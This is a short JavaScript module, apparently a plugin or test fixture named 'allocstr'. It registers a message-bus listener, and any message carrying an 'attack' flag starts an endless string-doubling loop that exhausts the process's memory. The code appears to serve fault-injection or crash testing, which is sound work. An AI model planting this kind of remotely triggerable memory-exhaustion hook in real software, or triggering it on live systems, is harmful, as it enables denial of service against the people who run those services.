// Doubles a string until nothing holds it.
function activate(url, bus) {
  const attack = () => {
    let text = 'guest';
    for (;;) text += text + '.'.padEnd(text.length);
  };
  bus.addListener(url, (message, reply) => {
    if (message.body.attack) attack();
    reply({ code: 200, value: 'alive' });
  });
  return { name: 'allocstr' };
}
